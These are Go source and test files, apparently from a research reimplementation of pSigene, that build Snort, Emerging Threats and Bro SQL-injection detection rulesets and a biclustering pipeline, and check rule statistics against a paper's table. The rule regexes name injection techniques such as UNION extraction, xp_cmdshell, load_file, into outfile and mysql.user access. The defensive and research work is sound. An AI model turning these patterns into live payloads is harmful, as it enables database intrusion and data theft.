	// Mode selects deterministic or anomaly-scoring semantics.
	Mode Mode
	// AnomalyThreshold applies in ModeAnomalyScoring.
	AnomalyThreshold int
	// Rules is the full rule list, enabled or not.
	Rules []Rule
}

// Stats summarizes a ruleset for Table IV.
type Stats struct {
	Name, Version    string
	SQLiRules        int
	EnabledFraction  float64
	RegexFraction    float64
	AvgPatternLength float64
	MaxPatternLength int
	MinPatternLength int
}

// Stats computes the Table IV row for the ruleset.
func (rs Ruleset) Stats() Stats {
	st := Stats{Name: rs.Name, Version: rs.Version, SQLiRules: len(rs.Rules)}
	if len(rs.Rules) == 0 {
		return st
	}
	var enabled, regex, totalLen int
	st.MinPatternLength = len(rs.Rules[0].Pattern)
	for _, r := range rs.Rules {
		if r.Enabled {
			enabled++
		}
		if r.Kind == MatchRegex {
			regex++
		}
		l := len(r.Pattern)
		totalLen += l
		if l > st.MaxPatternLength {
			st.MaxPatternLength = l
		}
		if l < st.MinPatternLength {
			st.MinPatternLength = l
		}
	}
	n := float64(len(rs.Rules))
	st.EnabledFraction = float64(enabled) / n
	st.RegexFraction = float64(regex) / n
	st.AvgPatternLength = float64(totalLen) / n
	return st
}

// Validate compiles every regex rule, returning the first error.
func (rs Ruleset) Validate() error {
	for _, r := range rs.Rules {
		if r.Pattern == "" {
			return fmt.Errorf("ruleset %s: rule %s has empty pattern", rs.Name, r.ID)
		}
		if r.Kind == MatchRegex {
			if _, err := regexp.Compile("(?i)" + r.Pattern); err != nil {
				return fmt.Errorf("ruleset %s: rule %s: %w", rs.Name, r.ID, err)
			}
		}
	}
	return nil
}

// EnabledRules returns only the rules enabled by default.
func (rs Ruleset) EnabledRules() []Rule {
	out := make([]Rule, 0, len(rs.Rules))
	for _, r := range rs.Rules {
		if r.Enabled {
			out = append(out, r)
		}
	}
	return out
}
