package ruleset

import (
	"math"
	"strings"
	"testing"
)

func TestAllRulesetsValidate(t *testing.T) {
	for _, rs := range []Ruleset{Bro(), Snort(), EmergingThreats(), SnortET(), ModSecCRS()} {
		if err := rs.Validate(); err != nil {
			t.Fatalf("%s: %v", rs.Name, err)
		}
	}
}

func TestTableIVCensusBro(t *testing.T) {
	st := Bro().Stats()
	if st.SQLiRules != 6 {
		t.Fatalf("Bro rules=%d, want 6", st.SQLiRules)
	}
	if st.EnabledFraction != 1 || st.RegexFraction != 1 {
		t.Fatalf("Bro enabled=%v regex=%v, want 100%%/100%%", st.EnabledFraction, st.RegexFraction)
	}
	// The paper measures avg 247.7 chars; ours must be in the same regime.
	if st.AvgPatternLength < 100 {
		t.Fatalf("Bro avg pattern length %.1f — too short for Bro's style", st.AvgPatternLength)
	}
}

func TestTableIVCensusSnort(t *testing.T) {
	st := Snort().Stats()
	if st.SQLiRules != 79 {
		t.Fatalf("Snort rules=%d, want 79", st.SQLiRules)
	}
	if math.Abs(st.EnabledFraction-0.61) > 0.02 {
		t.Fatalf("Snort enabled=%.3f, want ~0.61", st.EnabledFraction)
	}
	if math.Abs(st.RegexFraction-0.82) > 0.02 {
		t.Fatalf("Snort regex=%.3f, want ~0.82", st.RegexFraction)
	}
	if st.AvgPatternLength > 60 {
		t.Fatalf("Snort avg pattern length %.1f — too long for sql.rules style", st.AvgPatternLength)
	}
}

func TestTableIVCensusEmergingThreats(t *testing.T) {
	st := EmergingThreats().Stats()
	if st.SQLiRules != 4231 {
		t.Fatalf("ET rules=%d, want 4231", st.SQLiRules)
	}
	if st.EnabledFraction != 0 {
		t.Fatalf("ET enabled=%.3f, want 0", st.EnabledFraction)
	}
	if st.RegexFraction < 0.98 || st.RegexFraction >= 1 {
		t.Fatalf("ET regex=%.4f, want ~0.99", st.RegexFraction)
	}
}

func TestTableIVCensusModSec(t *testing.T) {
	st := ModSecCRS().Stats()
	if st.SQLiRules != 34 {
		t.Fatalf("ModSec rules=%d, want 34", st.SQLiRules)
	}
	if st.EnabledFraction != 1 || st.RegexFraction != 1 {
		t.Fatalf("ModSec enabled=%v regex=%v", st.EnabledFraction, st.RegexFraction)
	}
	if st.AvgPatternLength < 60 {
		t.Fatalf("ModSec avg pattern length %.1f — too short for CRS style", st.AvgPatternLength)
	}
}

func TestSnortNearDuplicatePair(t *testing.T) {
	// The paper calls out SIDs 19439/19440: identical regexes except for
	// the last character.
	var a, b string
	for _, r := range Snort().Rules {
		switch r.ID {
		case "snort:19439":
			a = r.Pattern
		case "snort:19440":
			b = r.Pattern
		}
	}
	if a == "" || b == "" {
		t.Fatal("SIDs 19439/19440 missing")
	}
	if a[:len(a)-1] != b[:len(b)-1] || a == b {
		t.Fatalf("19439/19440 must differ only in the last character:\n%q\n%q", a, b)
	}
}

func TestModSecRulesHaveScores(t *testing.T) {
	rs := ModSecCRS()
	if rs.Mode != ModeAnomalyScoring || rs.AnomalyThreshold <= 0 {
		t.Fatalf("ModSec must use anomaly scoring with a threshold: %+v", rs.Mode)
	}
	for _, r := range rs.Rules {
		if r.Score <= 0 {
			t.Fatalf("rule %s has no score", r.ID)
		}
	}
}

func TestSnortETMerge(t *testing.T) {
	m := SnortET()
	if len(m.Rules) != 79+4231 {
		t.Fatalf("merged rules=%d, want 4310", len(m.Rules))
	}
	if !strings.Contains(m.Name, "Snort") || !strings.Contains(m.Name, "Emerging") {
		t.Fatalf("merged name=%q", m.Name)
	}
}

func TestEnabledRules(t *testing.T) {
	s := Snort()
	en := s.EnabledRules()
	for _, r := range en {
		if !r.Enabled {
			t.Fatal("EnabledRules returned a disabled rule")
		}
	}
	want := int(math.Round(s.Stats().EnabledFraction * float64(len(s.Rules))))
	if len(en) != want {
		t.Fatalf("enabled count %d vs stats %d", len(en), want)
	}
}

func TestValidateRejectsBadRules(t *testing.T) {
	bad := Ruleset{Name: "x", Rules: []Rule{{ID: "1", Kind: MatchRegex, Pattern: "("}}}
	if err := bad.Validate(); err == nil {
		t.Fatal("invalid regex: want error")
	}
	empty := Ruleset{Name: "x", Rules: []Rule{{ID: "1", Kind: MatchContent}}}
	if err := empty.Validate(); err == nil {
		t.Fatal("empty pattern: want error")
	}
}

func TestStatsEmptyRuleset(t *testing.T) {
	st := Ruleset{Name: "empty"}.Stats()
	if st.SQLiRules != 0 || st.EnabledFraction != 0 {
		t.Fatalf("empty stats: %+v", st)
	}
}
