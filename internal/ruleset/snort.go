package ruleset

import "fmt"

// Snort returns the Snort 2920 SQLi rule set: 79 rules in the short-pattern
// style of sql.rules (the paper measures an average length of 27.1), with
// 61% enabled by default and 82% using regexes. It includes the
// near-duplicate pair the paper calls out (SIDs 19439/19440, identical but
// for the last character).
func Snort() Ruleset {
	enabled := func(id, desc, pat string) Rule {
		return Rule{ID: id, Description: desc, Kind: MatchRegex, Target: TargetPayload, Pattern: pat, Enabled: true}
	}
	disabled := func(id, desc, pat string) Rule {
		r := enabled(id, desc, pat)
		r.Enabled = false
		return r
	}
	content := func(id, desc, pat string, on bool) Rule {
		return Rule{ID: id, Description: desc, Kind: MatchContent, Target: TargetPayload, Pattern: pat, Enabled: on}
	}

	rules := []Rule{
		// --- Generic enabled regex rules (the workhorses). ---
		enabled("snort:1061", "SQL union select attempt", `.+union\s+select`),
		enabled("snort:1062", "SQL union all select attempt", `union\s+all\s+select`),
		enabled("snort:2404", "SQL quoted tautology", `'\s*or\s*'`),
		enabled("snort:2405", "SQL numeric tautology", `or\s+1\s*=\s*1`),
		enabled("snort:2406", "SQL and-based probe", `and\s+1\s*=\s*1`),
		enabled("snort:2407", "SQL quote-dash-dash", `'\s*--`),
		enabled("snort:2408", "SQL quote hash comment", `'\s*#`),
		enabled("snort:2409", "SQL generic tautology equals", `'\s*or\s+.+=`),
		enabled("snort:2410", "SQL insert into statement", `insert\s+into`),
		enabled("snort:2411", "SQL delete from statement", `delete\s+from`),
		enabled("snort:2412", "SQL drop table statement", `drop\s+table`),
		enabled("snort:2413", "SQL update set statement", `;\s*update\s+`),
		enabled("snort:2414", "SQL stacked drop", `;\s*drop\s+`),
		enabled("snort:2415", "SQL stacked insert", `;\s*insert\s+`),
		enabled("snort:2416", "SQL sleep call", `sleep\s*\(`),
		enabled("snort:2417", "SQL benchmark call", `benchmark\s*\(`),
		enabled("snort:2418", "SQL waitfor delay", `waitfor\s+delay`),
		enabled("snort:2419", "SQL load_file call", `load_file\s*\(`),
		enabled("snort:2420", "SQL into outfile", `into\s+outfile`),
		enabled("snort:2421", "SQL into dumpfile", `into\s+dumpfile`),
		enabled("snort:2422", "SQL information_schema access", `information_schema`),
		enabled("snort:2423", "SQL mysql.user access", `mysql\.user`),
		enabled("snort:2424", "SQL version variable", `@@version`),
		enabled("snort:2425", "SQL concat of system functions", `concat\s*\(.*\(\s*\)`),
		enabled("snort:2426", "SQL char function", `char\s*\(\s*\d+`),
		enabled("snort:2427", "SQL hex literal", `0x[0-9a-f]{4,}`),
		enabled("snort:2428", "SQL extractvalue error-based", `extractvalue\s*\(`),
		enabled("snort:2429", "SQL updatexml error-based", `updatexml\s*\(`),
		enabled("snort:2430", "SQL floor rand error-based", `floor\s*\(\s*rand`),
		enabled("snort:2431", "SQL having tautology", `having\s+\d+\s*=\s*\d+`),
		enabled("snort:2432", "SQL order by probe", `order\s+by\s+\d+`),
		enabled("snort:2433", "SQL group_concat exfil", `group_concat\s*\(`),
		enabled("snort:2434", "SQL substring probing", `substring?\s*\(\s*@@`),
		enabled("snort:2435", "SQL ascii probing", `ascii\s*\(\s*substr`),
		enabled("snort:2436", "SQL exists select probe", `exists\s*\(\s*select`),
		enabled("snort:2437", "SQL select from where", `select\s+.+\s+from\s+.+\s+where`),
		enabled("snort:2438", "SQL xp_cmdshell", `xp_cmdshell`),
		enabled("snort:2439", "SQL declare variable", `declare\s+@`),
		enabled("snort:2440", "SQL cast probing", `cast\s*\(.+as\s+`),
		enabled("snort:2441", "SQL quote or sleep", `'\s*or\s+sleep`),
		enabled("snort:2442", "SQL if-based conditional", `if\s*\(.+,\s*sleep`),
		enabled("snort:2443", "SQL procedure analyse", `procedure\s+analyse`),
		enabled("snort:2444", "SQL null union probing", `union\s+select\s+null`),
		enabled("snort:2445", "SQL encoded quote tautology", `%27\s*or`),
		// Content (non-regex) enabled rules.
		content("snort:3151", "SQL single-quote dash-dash content", "'--", true),
		content("snort:3152", "SQL admin quote content", "admin'", true),
		content("snort:3153", "SQL semicolon shutdown content", ";shutdown", true),
		content("snort:3154", "SQL sp_password content", "sp_password", true),

		// --- Disabled rules: overly specific per-application URI rules,
		// near-duplicates and noisy patterns (39%). ---
		disabled("snort:19439", "SQL injection in tiki-listpages.php offset param", `/tiki-listpages\.php\?offset=[^&]*'`),
		disabled("snort:19440", "SQL injection in tiki-listpages.php offset param", `/tiki-listpages\.php\?offset=[^&]*"`),
		disabled("snort:13990", "SQL injection in cart.php id param", `/cart\.php\?id=[^&]*union`),
		disabled("snort:13991", "SQL injection in view.php cat param", `/view\.php\?cat=[^&]*select`),
		disabled("snort:13992", "SQL injection in news.php article param", `/news\.php\?article=[^&]*'`),
		disabled("snort:13993", "SQL injection in index.php page param", `/index\.php\?page=[^&]*union`),
		disabled("snort:13994", "SQL injection in topic.php id param", `/topic\.php\?id=[^&]*select`),
		disabled("snort:13995", "SQL injection in gallery.php item param", `/gallery\.php\?item=[^&]*'`),
		disabled("snort:13996", "SQL injection in product.php pid param", `/product\.php\?pid=[^&]*or`),
		disabled("snort:13997", "SQL injection in profile.php uid param", `/profile\.php\?uid=[^&]*'`),
		disabled("snort:13998", "SQL injection in download.php file param", `/download\.php\?file=[^&]*union`),
		disabled("snort:13999", "SQL injection in search.php q param", `/search\.php\?q=[^&]*select`),
		disabled("snort:14000", "SQL injection in list.php sort param", `/list\.php\?sort=[^&]*,\s*\(`),
		disabled("snort:14001", "SQL injection in login.php user param", `/login\.php\?user=[^&]*'\s*or`),
		disabled("snort:14002", "SQL injection in page.php cid param", `/page\.php\?cid=[^&]*--`),
		disabled("snort:14003", "SQL injection in detail.php sec param", `/detail\.php\?sec=[^&]*;`),
		disabled("snort:14004", "SQL injection in show.php art param", `/show\.php\?art=[^&]*'\s*=`),
		disabled("snort:14005", "SQL injection in poll.php vote param", `/poll\.php\?vote=[^&]*select`),
		disabled("snort:14006", "SQL injection in event.php key param", `/event\.php\?key=[^&]*union`),
		disabled("snort:14007", "SQL injection in faq.php ref param", `/faq\.php\?ref=[^&]*/\*`),
		disabled("snort:14008", "SQL injection in print.php doc param", `/print\.php\?doc=[^&]*%27`),
		// Disabled content rules (server-response and legacy patterns that
		// need matching context this sensor does not reassemble).
		content("snort:14016", "SQL error response content", "you have an error in your sql syntax", false),
		content("snort:14017", "SQL ODBC error content", "microsoft odbc sql server driver", false),
		content("snort:14018", "SQL unclosed quotation content", "unclosed quotation mark", false),
		content("snort:14019", "SQL supplied argument content", "supplied argument is not a valid mysql", false),
		content("snort:14020", "SQL mysql_fetch error content", "mysql_fetch_array()", false),
		content("snort:14021", "SQL ORA error content", "ora-01756", false),
		content("snort:14022", "SQL pg_query error content", "pg_query() failed", false),
		content("snort:14023", "SQL JDBC error content", "jdbc.sqlserverexception", false),
		content("snort:14024", "SQL sqlite error content", "sqlite3::sqlexception", false),
		content("snort:14025", "SQL db2 error content", "db2 sql error", false),
	}
	return Ruleset{Name: "Snort", Version: "2920", Mode: ModeDeterministic, Rules: rules}
}

// EmergingThreats returns the ET 7098 SQLi set in its characteristic form:
// thousands of per-vulnerability URI rules, none enabled by default
// (Table IV reports 0% enabled), nearly all regex. The rules are template
// expansions over application paths, parameters and injection markers —
// the same mechanical per-CVE structure the real distribution exhibits.
func EmergingThreats() Ruleset {
	paths := []string{
		"index", "view", "article", "news", "product", "item", "cart", "shop",
		"gallery", "photo", "album", "topic", "forum", "post", "comment",
		"profile", "user", "member", "account", "login", "search", "list",
		"category", "detail", "show", "display", "page", "content", "download",
		"file", "doc", "event", "calendar", "review", "rating", "poll", "vote",
		"faq", "help", "print",
	}
	params := []string{"id", "cat", "item", "uid", "pid", "page", "ref", "key", "art", "sec", "cid"}
	markers := []struct{ name, pat string }{
		{"UNION SELECT", `union\s+select`},
		{"SELECT FROM", `select.+from`},
		{"quote", `'`},
		{"INSERT", `insert\s+into`},
		{"DELETE", `delete\s+from`},
		{"UPDATE SET", `update.+set`},
		{"ASCII probe", `ascii\s*\(`},
		{"comment", `--`},
		{"OR tautology", `or\s+1\s*=\s*1`},
		{"hex", `0x[0-9a-f]+`},
	}
	rs := Ruleset{Name: "Emerging Threats", Version: "7098", Mode: ModeDeterministic}
	sid := 2004000
	for _, p := range paths {
		for _, prm := range params {
			for _, m := range markers {
				if len(rs.Rules) >= 4189 {
					break
				}
				rs.Rules = append(rs.Rules, Rule{
					ID:          fmt.Sprintf("et:%d", sid),
					Description: fmt.Sprintf("ET WEB_SPECIFIC_APPS %s.php %s parameter %s SQL injection", p, prm, m.name),
					Kind:        MatchRegex,
					Target:      TargetURI,
					Pattern:     fmt.Sprintf(`/%s\.php\?.*%s=[^&]*%s`, p, prm, m.pat),
					Enabled:     false,
				})
				sid++
			}
		}
	}
	// A handful (1%) of content rules to match the "99% regex" census.
	for i := 0; len(rs.Rules) < 4231 && i < 64; i++ {
		rs.Rules = append(rs.Rules, Rule{
			ID:          fmt.Sprintf("et:%d", sid),
			Description: fmt.Sprintf("ET WEB_SERVER SQL errors in response %d", i),
			Kind:        MatchContent,
			Target:      TargetPayload,
			Pattern:     fmt.Sprintf("sql syntax %d", i),
			Enabled:     false,
		})
		sid++
	}
	rs.Rules = rs.Rules[:4231]
	return rs
}

// SnortET returns the merged Snort + Emerging Threats set the paper
// evaluates as one row ("Snort - Emerging Threats").
func SnortET() Ruleset {
	s, et := Snort(), EmergingThreats()
	merged := Ruleset{
		Name:    "Snort - Emerging Threats",
		Version: s.Version + "+" + et.Version,
		Mode:    ModeDeterministic,
		Rules:   make([]Rule, 0, len(s.Rules)+len(et.Rules)),
	}
	merged.Rules = append(merged.Rules, s.Rules...)
	merged.Rules = append(merged.Rules, et.Rules...)
	return merged
}
