package ruleset

// Bro returns the Bro 2.0 SQLi signature set: six rules, all enabled, all
// regex, with the long multi-group expressions characteristic of Bro's
// distribution (the paper measures an average pattern length of 247.7
// characters). Bro's style favours precision: every rule demands strong,
// unambiguous injection evidence, which is why the paper records zero false
// positives — and the lowest detection rate — for this set.
func Bro() Ruleset {
	rules := []Rule{
		{
			ID:          "bro:sqli-uri-1",
			Description: "SQL injection: quoted tautology or quoted boolean clause in URI",
			Kind:        MatchRegex,
			Target:      TargetPayload,
			Pattern:     `[\?&][^\?&]*?=[^\?&]*?(%27|')([^\?&]*?)(%20|\+|\s)*(or|and)(%20|\+|\s)+([^\?&=]*?)(=|like|%3d)([^\?&]*?)((%27|')|(%23|#|--))|(%27|')(%20|\+|\s)*(or|and)(%20|\+|\s)*(%27|')?[0-9a-z]+(%27|')?(%20|\+|\s)*(=|%3d)`,
			Enabled:     true,
		},
		{
			ID:          "bro:sqli-uri-2",
			Description: "SQL injection: UNION-based extraction with column list",
			Kind:        MatchRegex,
			Target:      TargetPayload,
			Pattern:     `(%20|\+|\s|\(|%28|/\*.*?\*/|^|=|-[0-9]+|')union((%20|\+|\s)+all)?((%20|\+|\s)|(/\*.*?\*/))+select((%20|\+|\s)|(/\*.*?\*/))+((null|[0-9]+|@@[a-z_]+|concat|group_concat|char|0x[0-9a-f]+)((%20|\+|\s)*,(%20|\+|\s)*)?)+`,
			Enabled:     true,
		},
		{
			ID:          "bro:sqli-uri-3",
			Description: "SQL injection: comment truncation after quote or statement terminator",
			Kind:        MatchRegex,
			Target:      TargetPayload,
			Pattern:     `(%27|'|%22|")((%20|\+|\s)*)((%3b|;)(%20|\+|\s)*)?(--(%20|\+|\s|-|$)|%2d%2d|#|%23)|(%3b|;)(%20|\+|\s)*(drop|insert|update|delete|shutdown|create)(%20|\+|\s)+`,
			Enabled:     true,
		},
		{
			ID:          "bro:sqli-uri-4",
			Description: "SQL injection: timing or benchmark function with numeric argument",
			Kind:        MatchRegex,
			Target:      TargetPayload,
			Pattern:     `(sleep(%20|\+|\s)*(\(|%28)(%20|\+|\s)*[0-9]+|benchmark(%20|\+|\s)*(\(|%28)(%20|\+|\s)*[0-9]+(%20|\+|\s)*,|waitfor(%20|\+|\s)+delay(%20|\+|\s)+(%27|')[0-9:]+|pg_sleep(%20|\+|\s)*(\(|%28))`,
			Enabled:     true,
		},
		{
			ID:          "bro:sqli-uri-5",
			Description: "SQL injection: schema or environment probing via metadata objects",
			Kind:        MatchRegex,
			Target:      TargetPayload,
			Pattern:     `(information_schema(\.|%2e)(tables|columns|schemata)|mysql(\.|%2e)user|@@(version|datadir|hostname|basedir|tmpdir)|(select|,|%2c)(%20|\+|\s)*(user|database|version|current_user|schema)(%20|\+|\s)*(\(|%28)(%20|\+|\s)*(\)|%29))`,
			Enabled:     true,
		},
		{
			ID:          "bro:sqli-uri-6",
			Description: "SQL injection: error-based extraction or file access primitives",
			Kind:        MatchRegex,
			Target:      TargetPayload,
			Pattern:     `(extractvalue(%20|\+|\s)*(\(|%28)|updatexml(%20|\+|\s)*(\(|%28)|floor(%20|\+|\s)*(\(|%28)(%20|\+|\s)*rand|load_file(%20|\+|\s)*(\(|%28)|into(%20|\+|\s)+(outfile|dumpfile)(%20|\+|\s)+(%27|'))`,
			Enabled:     true,
		},
	}
	return Ruleset{Name: "Bro", Version: "2.0", Mode: ModeDeterministic, Rules: rules}
}
