package cluster

import (
	"math/rand"
	"testing"

	"psigene/internal/matrix"
)

// syntheticAttackMatrix builds a matrix with three planted sample groups,
// each supported by its own feature block, plus a near-empty "black hole"
// group, mimicking the structure of the paper's training matrix.
func syntheticAttackMatrix(t *testing.T, rng *rand.Rand) (*matrix.Dense, []float64) {
	t.Helper()
	const features = 24
	type group struct {
		n     int
		feats []int
	}
	groups := []group{
		{n: 40, feats: []int{0, 1, 2, 3}},
		{n: 30, feats: []int{8, 9, 10}},
		{n: 20, feats: []int{15, 16, 17, 18, 19}},
		{n: 10, feats: nil}, // black hole: almost all zeros
	}
	var rows [][]float64
	for _, g := range groups {
		for i := 0; i < g.n; i++ {
			r := make([]float64, features)
			for _, f := range g.feats {
				r[f] = float64(1 + rng.Intn(3))
			}
			rows = append(rows, r)
		}
	}
	m, err := matrix.NewFromRows(rows)
	if err != nil {
		t.Fatal(err)
	}
	return m, nil
}

func TestRunRecoversPlantedBiclusters(t *testing.T) {
	rng := rand.New(rand.NewSource(42))
	m, w := syntheticAttackMatrix(t, rng)
	res, err := Run(m, w, Options{})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if len(res.Biclusters) < 3 {
		t.Fatalf("found %d biclusters, want >= 3", len(res.Biclusters))
	}
	// Each planted group's feature block should appear as some bicluster's
	// discriminating features.
	wantBlocks := [][]int{{0, 1, 2, 3}, {8, 9, 10}, {15, 16, 17, 18, 19}}
	for _, want := range wantBlocks {
		found := false
		for _, b := range res.Biclusters {
			if equalIntSets(b.Features, want) {
				found = true
				break
			}
		}
		if !found {
			var got [][]int
			for _, b := range res.Biclusters {
				got = append(got, b.Features)
			}
			t.Fatalf("planted feature block %v not recovered; got %v", want, got)
		}
	}
	if res.CopheneticCorrelation < 0.7 {
		t.Fatalf("cophenetic=%v, want >= 0.7 on planted structure", res.CopheneticCorrelation)
	}
}

func TestRunDetectsBlackHole(t *testing.T) {
	rng := rand.New(rand.NewSource(42))
	m, w := syntheticAttackMatrix(t, rng)
	res, err := Run(m, w, Options{})
	if err != nil {
		t.Fatal(err)
	}
	var holes int
	for _, b := range res.Biclusters {
		if b.BlackHole {
			holes++
			if b.ZeroFraction <= 0.99 {
				t.Fatalf("black hole with zero fraction %v", b.ZeroFraction)
			}
		}
	}
	if holes == 0 {
		t.Fatal("planted all-zero group not flagged as black hole")
	}
	if len(res.ActiveBiclusters()) != len(res.Biclusters)-holes {
		t.Fatal("ActiveBiclusters must exclude exactly the black holes")
	}
}

func TestRunRowsArePartition(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	m, w := syntheticAttackMatrix(t, rng)
	res, err := Run(m, w, Options{})
	if err != nil {
		t.Fatal(err)
	}
	seen := make(map[int]bool)
	add := func(leaves []int) {
		for _, l := range leaves {
			if seen[l] {
				t.Fatalf("row %d assigned twice", l)
			}
			seen[l] = true
		}
	}
	for _, b := range res.Biclusters {
		add(b.RowLeaves)
	}
	add(res.Unclustered)
	if len(seen) != m.Rows() {
		t.Fatalf("covered %d rows, want %d", len(seen), m.Rows())
	}
}

func TestRunMinClusterFrac(t *testing.T) {
	rng := rand.New(rand.NewSource(9))
	m, w := syntheticAttackMatrix(t, rng)
	total := float64(m.Rows())
	res, err := Run(m, w, Options{MinClusterFrac: 0.05})
	if err != nil {
		t.Fatal(err)
	}
	for _, b := range res.Biclusters {
		if b.SampleWeight < 0.05*total {
			t.Fatalf("bicluster %d covers %.1f samples, below 5%% of %v", b.ID, b.SampleWeight, total)
		}
	}
}

func TestRunWeightedMatchesExpanded(t *testing.T) {
	// Deduplicated weighted input must select biclusters with the same
	// expanded sample weights as the fully expanded input.
	pts := [][]float64{
		{3, 0, 0, 0}, {0, 3, 0, 0}, {0, 0, 3, 0}, {0, 0, 0, 3},
	}
	mult := []float64{40, 30, 20, 10}
	var expanded [][]float64
	for i, p := range pts {
		for k := 0; k < int(mult[i]); k++ {
			expanded = append(expanded, p)
		}
	}
	me, _ := matrix.NewFromRows(expanded)
	resE, err := Run(me, nil, Options{})
	if err != nil {
		t.Fatal(err)
	}
	md, _ := matrix.NewFromRows(pts)
	resD, err := Run(md, mult, Options{})
	if err != nil {
		t.Fatal(err)
	}
	we := clusterWeights(resE)
	wd := clusterWeights(resD)
	if len(we) != len(wd) {
		t.Fatalf("cluster counts differ: expanded %v vs weighted %v", we, wd)
	}
	for i := range we {
		if we[i] != wd[i] {
			t.Fatalf("cluster weights differ: expanded %v vs weighted %v", we, wd)
		}
	}
}

func clusterWeights(r *Result) []float64 {
	out := make([]float64, 0, len(r.Biclusters))
	for _, b := range r.Biclusters {
		out = append(out, b.SampleWeight)
	}
	// Sort descending for comparability.
	for i := 0; i < len(out); i++ {
		for j := i + 1; j < len(out); j++ {
			if out[j] > out[i] {
				out[i], out[j] = out[j], out[i]
			}
		}
	}
	return out
}

func TestRunErrors(t *testing.T) {
	one, _ := matrix.NewFromRows([][]float64{{1, 2}})
	if _, err := Run(one, nil, Options{}); err == nil {
		t.Fatal("single row: want error")
	}
}

func TestRunFeatureOrderCoversFeatures(t *testing.T) {
	rng := rand.New(rand.NewSource(21))
	m, w := syntheticAttackMatrix(t, rng)
	res, err := Run(m, w, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, b := range res.Biclusters {
		if len(b.FeatureOrder) != len(b.Features) {
			t.Fatalf("bicluster %d: order %v vs features %v", b.ID, b.FeatureOrder, b.Features)
		}
		if !equalIntSets(b.FeatureOrder, b.Features) {
			t.Fatalf("bicluster %d: FeatureOrder must be a permutation of Features", b.ID)
		}
	}
}

func TestBiclusterIDsAreHeatmapOrdered(t *testing.T) {
	rng := rand.New(rand.NewSource(5))
	m, w := syntheticAttackMatrix(t, rng)
	res, err := Run(m, w, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for i, b := range res.Biclusters {
		if b.ID != i+1 {
			t.Fatalf("bicluster %d has ID %d", i, b.ID)
		}
	}
	// Row leaves of consecutive biclusters must be contiguous in the
	// dendrogram leaf order.
	pos := make(map[int]int)
	for p, leaf := range res.RowDendrogram.LeafOrder() {
		pos[leaf] = p
	}
	prevMax := -1
	for _, b := range res.Biclusters {
		mn, mx := m.Rows(), -1
		for _, l := range b.RowLeaves {
			if pos[l] < mn {
				mn = pos[l]
			}
			if pos[l] > mx {
				mx = pos[l]
			}
		}
		if mx-mn+1 != len(b.RowLeaves) {
			t.Fatalf("bicluster %d leaves not contiguous in heat-map order", b.ID)
		}
		if mn <= prevMax {
			t.Fatalf("bicluster %d out of heat-map order", b.ID)
		}
		prevMax = mx
	}
}

func equalIntSets(a, b []int) bool {
	if len(a) != len(b) {
		return false
	}
	set := make(map[int]bool, len(a))
	for _, x := range a {
		set[x] = true
	}
	for _, x := range b {
		if !set[x] {
			return false
		}
	}
	return true
}
