package cluster

import (
	"math/rand"
	"reflect"
	"testing"

	"psigene/internal/matrix"
)

// randomCountMatrix builds a seeded sample×feature count matrix with
// paper-like sparsity for the parallel parity tests.
func randomCountMatrix(t *testing.T, rows, cols int, seed int64) *matrix.Dense {
	t.Helper()
	rng := rand.New(rand.NewSource(seed))
	m := matrix.MustNew(rows, cols)
	for i := 0; i < rows; i++ {
		for j := 0; j < cols; j++ {
			if rng.Float64() < 0.25 {
				m.Set(i, j, float64(1+rng.Intn(6)))
			}
		}
	}
	return m
}

// TestUPGMARowsParallelParity: the dendrogram must be identical — merge
// for merge, height for height, with == — for any worker count, because
// the parallel distance fill writes the exact serial values.
func TestUPGMARowsParallelParity(t *testing.T) {
	m := randomCountMatrix(t, 40, 12, 7)
	weights := make([]float64, m.Rows())
	for i := range weights {
		weights[i] = float64(1 + i%3)
	}
	want, err := UPGMARowsParallel(m, weights, 1)
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range []int{2, 8, 0} {
		got, err := UPGMARowsParallel(m, weights, w)
		if err != nil {
			t.Fatalf("workers=%d: %v", w, err)
		}
		if !reflect.DeepEqual(want.Merges, got.Merges) {
			t.Fatalf("workers=%d: merges differ from serial", w)
		}
	}
	// The default wrapper routes through the parallel kernel; it must agree too.
	def, err := UPGMARows(m, weights)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(want.Merges, def.Merges) {
		t.Fatal("UPGMARows differs from serial UPGMARowsParallel")
	}
}

// TestRunParallelismParity: the whole biclustering Result — row/column
// dendrograms, bicluster membership, features, ordering, cophenetic
// correlation — must be identical across Parallelism settings.
func TestRunParallelismParity(t *testing.T) {
	m := randomCountMatrix(t, 35, 14, 11)
	weights := make([]float64, m.Rows())
	for i := range weights {
		weights[i] = float64(1 + i%4)
	}
	want, err := Run(m, weights, Options{Parallelism: 1})
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range []int{2, 8, 0} {
		got, err := Run(m, weights, Options{Parallelism: w})
		if err != nil {
			t.Fatalf("Parallelism=%d: %v", w, err)
		}
		if want.CopheneticCorrelation != got.CopheneticCorrelation {
			t.Fatalf("Parallelism=%d: cophenetic %v, want %v", w, got.CopheneticCorrelation, want.CopheneticCorrelation)
		}
		if !reflect.DeepEqual(want.RowDendrogram.Merges, got.RowDendrogram.Merges) {
			t.Fatalf("Parallelism=%d: row dendrogram differs", w)
		}
		if !reflect.DeepEqual(want.ColDendrogram.Merges, got.ColDendrogram.Merges) {
			t.Fatalf("Parallelism=%d: column dendrogram differs", w)
		}
		if !reflect.DeepEqual(want.Biclusters, got.Biclusters) {
			t.Fatalf("Parallelism=%d: biclusters differ", w)
		}
		if !reflect.DeepEqual(want.Unclustered, got.Unclustered) {
			t.Fatalf("Parallelism=%d: unclustered rows differ", w)
		}
	}
}
