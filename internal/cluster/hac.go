// Package cluster implements the clustering substrate of the pSigene
// pipeline: hierarchical agglomerative clustering with the UPGMA
// (Unweighted Pair Group Method with Arithmetic mean) linkage, dendrogram
// manipulation (leaf ordering, cutting), cophenetic correlation, and the
// two-way biclustering procedure the paper applies to the sample×feature
// matrix (rows first, then columns within each row cluster).
package cluster

import (
	"fmt"
	"math"
	"sort"

	"psigene/internal/matrix"
)

// Merge records one agglomeration step, in the style of a linkage matrix:
// clusters A and B (ids < nLeaves are leaves; id nLeaves+k is the cluster
// created by step k) merged at the given Height into a cluster of Size
// weighted leaves.
type Merge struct {
	A, B   int
	Height float64
	Size   float64
}

// Dendrogram is the result of a hierarchical agglomerative clustering run.
type Dendrogram struct {
	// NLeaves is the number of input items.
